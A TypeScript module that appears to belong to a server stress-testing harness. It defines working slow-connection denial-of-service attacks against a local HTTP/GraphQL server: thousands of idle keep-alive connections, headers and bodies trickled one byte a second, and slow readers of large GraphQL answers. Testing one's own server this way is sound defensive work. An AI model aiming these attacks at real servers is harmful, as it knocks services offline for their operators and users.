import { connect, type Socket } from "node:net";
import { ADDRESSES, type Attack, type Target } from "../attack.js";
import type { Tally } from "../tally.js";

const IDLE = 2_000;
const SLOW = 300;
const STEP_MS = 20;
/** How many connections are opened in each step. */
const AT_FIRST = 24;
const LATER = 2;
const GET = "GET /health/live HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n";

/** Opens connections one after the other, and keeps as many as the server lets it. */
const hold = async (
  { port, milliseconds }: Target,
  count: number,
  tally: Tally,
  begin: (socket: Socket) => void,
): Promise<void> => {
  const end = performance.now() + milliseconds;
  const sockets = new Set<Socket>();
  const open = (): void => {
    const socket = connect({ host: "127.0.0.1", port, localAddress: ADDRESSES.attacker });
    sockets.add(socket);
    socket.on("connect", () => {
      tally.add("connected");
      begin(socket);
    });
    let heard = "";
    socket.on("data", (bytes: Buffer) => (heard += bytes.toString("latin1", 0, 40).slice(0, 40)));
    socket.on("error", () => undefined);
    socket.on("close", () => {
      sockets.delete(socket);
      if (performance.now() < end)
        tally.add(`closed by the server ${/^HTTP\/1.1 ([345]\d\d)/.exec(heard)?.[1] ?? ""}`.trim());
    });
  };
  let opened = 0;
  while (performance.now() < end) {
    // Later some come again that were thrown out.
    const most = opened < count ? AT_FIRST : LATER;
    for (let n = 0; n < most && sockets.size < count; n++, opened++) open();
    await new Promise((resume) => setTimeout(resume, STEP_MS));
  }
  tally.add("held at the end", sockets.size);
  for (const socket of sockets) socket.destroy();
};

export const idleConnections = (openFiles: number): Attack => ({
  name: `idle-${openFiles}`,
  sends: `${IDLE} idle keep-alive connections of one address, ${openFiles} open files allowed`,
  openFiles,
  othersConnectAnew: true,
  run: (target, tally) => hold(target, IDLE, tally, (socket) => socket.write(GET)),
});

/** One byte of what is sent each second. */
const trickle = (socket: Socket, text: string): void => {
  let at = 0;
  const timer = setInterval(() => socket.write(text[at++ % text.length] ?? "x"), 1_000);
  socket.on("close", () => clearInterval(timer));
};

export const slowHeaders: Attack = {
  name: "slow-headers",
  sends: `${SLOW} connections that never finish their headers`,
  othersConnectAnew: true,
  run: (target, tally) =>
    hold(target, SLOW, tally, (socket) => {
      socket.write("POST /graphql HTTP/1.1\r\nhost: 127.0.0.1\r\nx-slow: ");
      trickle(socket, "abc");
    }),
};

export const slowBodies: Attack = {
  name: "slow-bodies",
  sends: `${SLOW} connections that never finish their bodies`,
  othersConnectAnew: true,
  run: (target, tally) =>
    hold(target, SLOW, tally, (socket) => {
      socket.write(
        "POST /graphql HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\ncontent-length: 200000\r\n\r\n",
      );
      trickle(socket, " ");
    }),
};

const LARGE = JSON.stringify({
  query:
    "{ products(first: 100) { nodes { descriptionHtml variants(first: 10) { nodes { id sku price { formatted } } } } } }",
});

/** Clients that read a kilobyte a second of large answers. */
export const slowReaders: Attack = {
  name: "slow-readers",
  sends: `${SLOW} connections that hardly read their large answers`,
  othersConnectAnew: true,
  run: (target, tally) =>
    hold(target, SLOW, tally, (socket) => {
      socket.write(
        `POST /graphql HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\ncontent-length: ${LARGE.length}\r\n\r\n${LARGE}`,
      );
      socket.pause();
      const timer = setInterval(() => socket.read(1_024), 1_000);
      socket.on("close", () => clearInterval(timer));
    }),
};
